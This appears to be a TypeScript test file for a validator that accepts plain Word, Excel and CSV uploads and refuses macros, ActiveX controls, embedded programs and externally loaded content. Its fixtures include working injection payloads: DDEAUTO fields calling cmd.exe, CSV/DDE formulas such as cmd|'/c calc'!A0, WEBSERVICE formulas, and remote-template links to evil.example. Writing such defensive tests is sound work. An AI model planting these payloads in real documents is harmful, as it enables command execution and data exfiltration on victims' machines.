/** DOCX, XLSX and CSV: what is taken, and what could run or load something is not. */
import { zipSync } from "fflate";
import { expect, test } from "vitest";
import { zipWith } from "../testing/archives.ts";
import { contentTypes, docxOf, xlsxOf } from "../testing/office.ts";
import { carryOut } from "./validate.ts";

const docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const text = (words: string) => new TextEncoder().encode(words);
const check = (mediaType: typeof docx | typeof xlsx | "text/csv", content: Buffer) =>
  carryOut("validate", mediaType, content);
const rels = (target: string, type = "attachedTemplate", mode = "External") =>
  text(
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

test("a document and a workbook are taken whole, also with a chart's numbers in them and links for clicks", async () => {
  const chart = docxOf({
    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": new Uint8Array(xlsxOf()),
    "word/_rels/document.xml.rels": rels("https://example.com/terms", "hyperlink"),
  });
  for (const content of [docxOf(), chart]) expect(await check(docx, content)).toEqual({ end: content.length });
  expect(await check(xlsx, xlsxOf())).toEqual({ end: xlsxOf().length });
});

test("macros, controls, embedded programs and what is loaded from elsewhere are refused", async () => {
  const hostile: Record<string, Buffer> = {
    "a document with macros by its type": docxOf({}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a macro project": docxOf({ "word/vbaProject.bin": text("x") }),
    "a macro project under another name": docxOf({
      "[Content_Types].xml": contentTypes(
        docx,
        '<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
      "a.bin": text("x"),
    }),
    "a control": docxOf({ "word/activeX/activeX1.xml": text("<x/>") }),
    "an embedded program": docxOf({ "word/embeddings/oleObject1.bin": text("x") }),
    "an embedded workbook with macros": docxOf({
      "word/embeddings/a.xlsx": new Uint8Array(xlsxOf({ "xl/vbaProject.bin": text("x") })),
    }),
    "a template from elsewhere": docxOf({ "word/_rels/settings.xml.rels": rels("https://evil.example/a.dotm") }),
    "a picture from elsewhere": docxOf({ "word/_rels/document.xml.rels": rels("https://evil.example/a.png", "image") }),
    "a page in HTML": docxOf({ "word/_rels/document.xml.rels": rels("a.html", "aFChunk", "Internal") }),
    "a link to a file": docxOf({ "word/_rels/document.xml.rels": rels("file:///c:/a.exe", "hyperlink") }),
  };
  for (const [what, content] of Object.entries(hostile))
    expect([what, await check(docx, content)]).toEqual([what, { refused: "activeOffice" }]);
  const body = (content: string) => docxOf({ "main.xml": text(`<w:document xmlns:w="w">${content}</w:document>`) });
  const field = (...parts: string[]) =>
    body(
      `<w:fldChar w:fldCharType="begin"/>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join("")}`,
    );
  for (const content of [
    field(" DDEAUTO c:\\\\windows\\\\cmd.exe"),
    field(" DD", "EAUTO x"),
    field("<![CDATA[ DDE ]]>x"),
    field(' INCLUDEPICTURE "https://evil.example/a.png" \\d'),
    field(" LINK Excel.Sheet.8 a.xls"),
    body('<w:fldSimple w:instr=" INCLUDETEXT \\\\evil\\a.docx"/>'),
  ])
    expect(await check(docx, content)).toEqual({ refused: "activeOffice" });
  const links = field(' HYPERLINK "https://portico.example/link" ', "");
  expect(await check(docx, links)).toEqual({ end: links.length });
  const cells = (formula: string) => xlsxOf({ "main.xml": text(`<worksheet><c><f>${formula}</f></c></worksheet>`) });
  for (const formula of [
    "cmd|'/c calc'!A0",
    "1+WEBSERVICE(A1)",
    "_xlfn.IMAGE(A1)",
    'DDE("soffice";"a";"b")',
    "'\\\\evil\\[a.xlsx]S'!A1",
    "[a.xlsx]S!A1",
  ])
    expect([formula, await check(xlsx, cells(formula))]).toEqual([formula, { refused: "activeOffice" }]);
  const plain = cells("SUM('A|B'!A1:A2)&amp;\"a|b!'[x]'!\"+SUM(Table1[Sum])+'Year 2026'!A1");
  expect(await check(xlsx, plain)).toEqual({ end: plain.length });
  const dataLink = '<Override PartName="/l.xml" ContentType="application/vnd.openxmlformats.externalLink+xml"/>';
  const linked = xlsxOf({ "[Content_Types].xml": contentTypes(xlsx, dataLink), "l.xml": text("<ddeLink/>") });
  expect(await check(xlsx, linked)).toEqual({ refused: "activeOffice" });
  const macros4 = xlsxOf({ "xl/macrosheets/sheet1.xml": text("<x/>") });
  expect(await check(xlsx, macros4)).toEqual({ refused: "activeOffice" });
});

test("a package of another kind, or one that is not whole, is refused", async () => {
  expect(await check(xlsx, docxOf()), "by its name").toEqual({ refused: "wrongEnding" });
  const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><Types/>';
  for (const content of [
    Buffer.from(zipSync({ "a.txt": text("no document") })),
    docxOf({ "[Content_Types].xml": text(entity) }),
    docxOf({ "../a.xml": text("x") }),
    docxOf().subarray(0, -10),
    Buffer.concat([docxOf(), Buffer.from("more")]),
    zipWith([
      { name: "[Content_Types].xml", content: Buffer.from(contentTypes(docx)) },
      { name: "word/document.xml", content: Buffer.from("<x/>"), crc: 1 },
    ]),
    zipWith([
      { name: "[Content_Types].xml", content: Buffer.from(contentTypes(docx)) },
      { name: "[content_types].xml", content: Buffer.from("<x/>") },
    ]),
  ])
    expect(await check(docx, content)).toEqual({ refused: "unreadableFile" });
});

test("a table as text is taken in UTF-8 or an older encoding; pages, archives and programs in it are not", async () => {
  const csv = (content: string | Buffer) => check("text/csv", Buffer.from(content as string));
  for (const content of ["\ufeffИме;Сума\r\nИван;-12,40\r\n", Buffer.from([0xc8, 0xe2, 0xe0, 0xed, 0x3b, 0x31])])
    expect(await csv(content)).toEqual({ end: Buffer.from(content as string).length });
  expect(await csv("a\0b")).toEqual({ refused: "unreadableFile" });
  expect(await csv("<html><script>1</script>")).toEqual({ refused: "hiddenContent" });
  expect(await csv("a;%PDF-1.7")).toEqual({ refused: "hiddenContent" });
  for (const cell of ["=cmd|'/c calc'!A0", "=1+cmd|'/C calc'!A0", "@SUM(1,1)*cmd |'/c calc'!A0", "-2+3+cmd|'x'!A0"])
    expect([cell, await csv(`a;"${cell}"`)]).toEqual([cell, { refused: "activeOffice" }]);
  for (const cell of ["=WEBSERVICE(A1)", "+1+importxml(A1)", "='\\\\evil\\[a.xlsx]S'!A1", "@A1+[a.xlsx]S!A1"])
    expect([cell, await csv(`a;${cell}`)]).toEqual([cell, { refused: "activeOffice" }]);
  for (const row of ["-12,40;Fee | card!", "a | b!", "=SUM(A1:A2);ok", "=A1\nPlease call (1)", "-12,40;'[a]'!"])
    expect(await csv(row)).toEqual({ end: row.length });
  const long = `${"= |".repeat(2_000_000)}!`;
  expect(await csv(long), "a table of millions of formulas is read in time").toEqual({ end: long.length });
  const names = `a;'${"/'".repeat(2_000_000)}`;
  expect(await csv(names), "or of names").toEqual({ end: names.length });
});
